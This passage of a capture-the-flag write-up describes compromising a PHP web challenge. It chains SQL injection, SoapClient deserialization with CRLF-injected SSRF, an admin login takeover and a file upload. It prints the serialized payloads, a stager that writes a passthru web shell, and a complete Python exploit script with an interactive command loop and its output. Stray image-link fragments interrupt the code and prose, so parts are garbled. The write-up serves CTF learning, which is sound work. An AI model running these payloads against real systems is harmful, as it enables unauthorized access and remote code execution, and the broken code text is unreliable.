We get a single result.Perfect, a class to make SOAP requests! That sounds exactly what we need. Doing some research on SoapClient we see that parameters uri and user_agent are both vulnerable to CRLF injection and can be exploited to trigger SSRF. As wediscover later, depending on which parameter we choose to inject, a different approach should be followed in order to form valid HTTP requests according to the specification.

Testing locally to trigger a call with SoapClient we receive the following request.

Connection: Keep-Alive
User-Agent: PHP-SOAP/7.1.12
Content-Type: text/xml; charset=utf-8
SOAPAction: ""
Content-Length: 392

<?xml version="1.0" encoding="UTF-8"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="" xmlns:ns1="" xmlns:xsd="" xmlns:SOAP-ENC="" SOAP-ENV:encodingStyle=""><SOAP-ENV:Body><ns1:getcountry/></SOAP-ENV:Body></SOAP-ENV:Envelope>

Initially, only the uri parameter was chosen to craft our exploit. So, our test code is modified as shown below to see where the injection takes place in the HTTP request.

$p = array(
    'uri' => "\x0d\x0aURI_INJECTION",
    'location' => ''
// Set the first parameter of SoapClient to null,
// in order to run in non-WSDL mode.
$soap = new SoapClient(null,$p);
$serial_soap = serialize($soap);
$unserial_soap = unserialize($serial_soap);

The CRLF injection has been reflected in the request.

Connection: Keep-Alive
User-Agent: PHP-SOAP/7.1.12
Content-Type: text/xml; charset=utf-8
SOAPAction: "
Content-Length: 407

<?xml version="1.0" encoding="UTF-8"?>
<SOAP-ENV:Envelope xmlns:SOAP-ENV="" xmlns:ns1="
URI_INJECTION" xmlns:xsd="" xmlns:SOAP-ENC="" SOAP-ENV:encodingStyle=""><SOAP-ENV:Body><ns1:getcountry/></SOAP-ENV:Body></SOAP-ENV:Envelope>

We must adapt our payload to meet the following requirements:

  1. The Content-Type must be set to application/x-www-form-urlencoded
  2. The Content-Length must be set to the length of the data we want to POST
  3. The requests must include our POST data
  4. The default SOAP envelope and remaining HTTP request headers must be somehow ignored and not affect the login request

The approach we followed to match all requirements was to craft 3 separate requests with the one in the middle (the only one we will completely control) being the login request. The trick here is to terminate the first request using the Content-Length: 0 request header, which will terminate it and allow the second request to be read separately. The last request will be used to discard all unwanted data, such as the remaining HTTP headers and the SOAP envelope.

The SSRF payload up to this point, looks like this:

POST /index.php?action=login HTTP/1.1
Content-Type: application/x-www-form-urlencoded
Content-Length: 42POST /foo

But there are still 2 problems we must overcome:

  1. How do we get any response back from the server?
  2. How do we solve the captcha through the SSRF?

Fortunately, there is a simple solution that will address both issues. We can pre-generate a session from our browser, solve the captcha locally, and send the PHPSESSID cookie alongside the request as well as the solution to the capctha (solution to the captcha is tied to our session). If the SSRF succeeds, the PHPSESSID will be an admin authenticated session.

The following code has been used to generate the serialized object that will trigger our SSRF.

$p = array(
    'uri' => "\x0d\x0aContent-Length: 0\x0d\x0a\x0d\x0a\x0d\x0aPOST /login HTTP/1.1\x0d\x0aHost:\x0d\x0aCookie: PHPSESSID=XXX\x0d\x0aContent-Type: application/x-www-form-urlencoded\x0d\x0aContent-Length: 42\x0d\x0a\x0d\x0ausername=admin&password=nu1ladmin&code=XXX\x0d\x0a\x0d\x0aPOST /foo",
    'location' => ''
$soap = new SoapClient(null, $p);
$serial_soap = serialize($soap);

And this is the final payload sent to the server.

POST /index.php?action=publish HTTP/1.1
Connection: close
Accept-Encoding: gzip, deflate
Accept: */*
User-Agent: python-requests/2.18.1
Cookie: PHPSESSID=rfiaqul0ek01lgvsbgg1pls252
Content-Length: 889Content-Type: application/x-www-form-urlencoded


Getting RCE through unsafe file upload

Admin accounts have access to upload functionality, which we must obviously target to get RCE on the server. The related functions are given below.

// index.php
function publish()
    if(isset($_FILES['pic'])) {
        if (upload($_FILES['pic'])){
            echo 'upload ok!';
            return true;
        else {
            echo "upload file error";
            return false;
// config.php
function upload($file){
    $file_size  = $file['size'];
    if($file_size>2*1024*1024) {
        echo "pic is too big!";
        return false;
    $file_type = $file['type'];
    if($file_type!="image/jpeg" && $file_type!='image/pjpeg') {
        echo "file type invalid";
        return false;
    if(is_uploaded_file($file['tmp_name'])) {
        $uploaded_file = $file['tmp_name'];
        $user_path =  "/app/adminpic";
        if (!file_exists($user_path)) {
        $file_true_name = str_replace('.','',pathinfo($file['name'])['filename']);
        $file_true_name = str_replace('/','',$file_true_name);
        $file_true_name = str_replace('\\','',$file_true_name);
        $file_true_name = $file_true_name.time().rand(1,100).'.jpg';
        $move_to_file = $user_path."/".$file_true_name;
        if(move_uploaded_file($uploaded_file,$move_to_file)) {
                system('sh /home/nu1lctf/');
            return $file_true_name;
            return false;
        return false;

This is what happens on file uploads:

  • All uploaded files must be < 2MB
  • Mime-type must be either image/jpeg or image/pjpeg (easy to spoof)
  • Files are uploaded in adminpic/ folder with the name $file_true_name.time().rand(1,100).'.jpg'• After a file has been uploaded, it will be removed if it has <?php in its contents.

This is very easy to bypass and there will be only 3 digits to bruteforce in order to access the uploaded file. We can just use the <?= PHP shorthand to bypass the stripos() filter - even though we see that short_open_tag has been disabled in the PHP configuration (server was running PHP-5.5.9).

❯❯❯ curl -sS  '' | grep short_open_tag
short_open_tag => Off => Off

As we read in the PHP documentation:

Since PHP 5.4.0, <?= is always available.

Unfortunately, the if condition (if(stripos(file_get_contents($move_to_file),'<?php')>=0)) is broken (to our bad) and will always evaluate to true irregardless of the content we upload.

❯❯❯ php -r "var_dump(stripos('no_tag_here', '<?php'));"
❯❯❯ php-r 'var_dump(FALSE >= 0);'
(╯°□°)╯︵ ┻━┻

However, for some reason (that I really don't understand) that didn't work on the application. Even though it will always evaluate to true, our shell was not removed from the server if the <?= shorthand was used and we could still access the uploaded file (if anybody is aware of why that happens, please let me know).

Still, there is another way to bypass that mitigation. As we read in the script, it removes files using wildcard expansion.

cd /app/adminpic/
rm *.jpg

So, if we upload a file with name -NNN, rm will fail and our file will not be removed. The first approach was used during the CTF.

Last step, is to bruteforce the uploaded filename and see if we can get our PHP code to execute from within the adminpic folder taking into account that we can't avoid the addition of the .jpg extension.$file_true_name = $file_true_name.time().rand(1,100).'.jpg';In order to accurately bruteforce $file_true_name we remove last digit from time() (which is going to be the timestamp upon file upload) and we will find the uploaded file with max 1100 requests.

Note: In the application source, we mentioned that a timezone is being set at config.php (date_default_timezone_set("PRC")). However, as we read in the PHP documentation, the time() function will always return results in UTC.

Our bruteforce script worked as expected and we were able to access the uploaded file.

Nonetheless, the Content-Type was set to image/jpeg and our PHP code was not executing. So, we tied the LFI vulnerability to include the uploaded file and get our code to execute.

The whole solutions has been automated in the script.

import re
import sys
import string
import random
import requests
import subprocess
from itertools import product

_target = ''
_action = _target + 'index.php?action='

def get_creds():
    username = ''.join(random.choice(string.ascii_lowercase + string.digits) for _ in range(10))
    password = ''.join(random.choice(string.ascii_lowercase + string.digits) for _ in range(10))
    return username, password

def solve_code(html):
    code ='Code\(substr\(md5\(\?\), 0, 5\) === ([0-9a-f]{5})\)', html).group(1)
    solution = subprocess.check_output(['grep', '^'+code, 'captchas.txt']).split()[2]
    return solution

def register(username, password):
    resp = sess.get(_action+'register')
    code = solve_code(resp.text)'register', data={'username':username,'password':password,'code':code})
    return True

def login(username, password):
    resp = sess.get(_action+'login')
    code = solve_code(resp.text)'login', data={'username':username,'password':password,'code':code})
    return True

def publish(sig, mood):
    return'publish', data={'signature':sig,'mood':mood})#, proxies={'http':''})def get_prc_now():
    # date_default_timezone_set("PRC") is not important
    return subprocess.check_output(['php', '-r', 'date_default_timezone_set("PRC"); echo time();'])

def get_admin_session():
    sess = requests.Session()
    resp = sess.get(_action+'login')
    code = solve_code(resp.text)
    return sess.cookies.get_dict()['PHPSESSID'], code

def brute_filename(prefix, ts, sessid):
    ds = [''.join(i) for i in product(string.digits, repeat=3)]
    ds += [''.join(i) for i in product(string.digits, repeat=2)]
    # find uploaded file in max 1100 requests
    for d in ds:
        f = prefix + ts + d + '.jpg'
        resp = requests.get(_target+'adminpic/'+f, cookies={'PHPSESSID':sessid})
        if resp.status_code == 200:
            return f
    return False

print '[+] creating user session totrigger ssrf'
sess = requests.Session()

username, password = get_creds()

print '[+] register({}, {})'.format(username, password)
register(username, password)

print '[+] login({}, {})'.format(username, password)
login(username, password)

print '[+] user session => ' +sess.cookies.get_dict()['PHPSESSID']

print '[+] getting fresh session to be authenticated as admin'
phpsessid, code = get_admin_session()

ssrf = '\x0d\x0aContent-Length:0\x0d\x0a\x0d\x0a\x0d\x0aPOST /index.php?action=login HTTP/1.1\x0d\x0aHost:\x0d\x0aCookie: PHPSESSID={}\x0d\x0aContent-Type: application/x-www-form-urlencoded\x0d\x0aContent-Length: 42\x0d\x0a\x0d\x0ausername=admin&password=nu1ladmin&code={}\x0d\x0a\x0d\x0aPOST /foo\x0d\x0a'.format(phpsessid, code)
mood = 'O:10:\"SoapClient\":4:{{s:3:\"uri\";s:{}:\"{}\";s:8:\"location\";s:39:\"\";s:15:\"_stream_context\";i:0;s:13:\"_soap_version\";i:1;}}'.format(len(ssrf), ssrf)
mood = '0x'+''.join(map(lambda k: hex(ord(k))[2:].rjust(2, '0'), mood))

payload = 'a`, {}); -- -'.format(mood)

print '[+] final sqli/ssrf payload: ' + payload

print '[+] injecting payload through sqli'
resp = publish(payload, '0')

print '[+] triggering object deserialization -> ssrf'
sess.get(_action+'index')#, proxies={'http':''})

print '[+] admin session => ' + phpsessid

# switching to admin session
sess = requests.Session()
sess.cookies = requests.utils.cookiejar_from_dict({'PHPSESSID': phpsessid})

print '[+] uploading stager'
shell = {'pic': ('kkk.jpg', '<?=$c=fopen("/app/wshell.php","w");fwrite($c,"<?=passthru(\$_GET[0]);?>");?>', 'image/jpeg')}
resp ='publish', files=shell)#, proxies={'http':''})
prc_now = get_prc_now()[:-1]  # get epoch immediately

if 'upload ok' not in resp.text:
    print '[-] failed to upload shell, check admin session manually'

print '[+] bruteforcing uploaded file...'
stager = brute_filename('kkk', prc_now, phpsessid)

if not stager:
    print '[-] cannot find uploaded file, try again :('

print '[+] stager => {}../adminpic/{}'.format(_action, stager)
resp = sess.get(_action+'../adminpic/'+stager)

shell = _target+'wshell.php'print '[+] shell => {}\n'.format(shell)

while True:
    cmd = raw_input('$ ').strip()
    if cmd == 'exit' or cmd == 'quit':
    resp = requests.get('{}?0={}'.format(shell, cmd))
    print resp.text
❯❯❯ python
[+] creating user session to trigger ssrf
[+] register(sttozcf7wn, u4t6s3m5ym)
[+] login(sttozcf7wn, u4t6s3m5ym)
[+] user session => 0tn8db2fpp79rj68cdbq6thi13
[+] getting fresh session to be authenticated as admin
[+] final sqli/ssrf payload: a`,0x4f3a31303a22536f6170436c69656e74223a343a7b733a333a22757269223b733a3237313a22687474703a2f2f3132372e302e302e312f0d0a436f6e74656e742d4c656e6774683a300d0a0d0a0d0a504f5354202f696e6465782e7068703f616374696f6e3d6c6f67696e20485454502f312e310d0a486f73743a203132372e302e302e310d0a436f6f6b69653a205048505345535349443d343272726d313632766d3266387372756a626b697669357538370d0a436f6e74656e742d547970653a206170706c69636174696f6e2f782d777777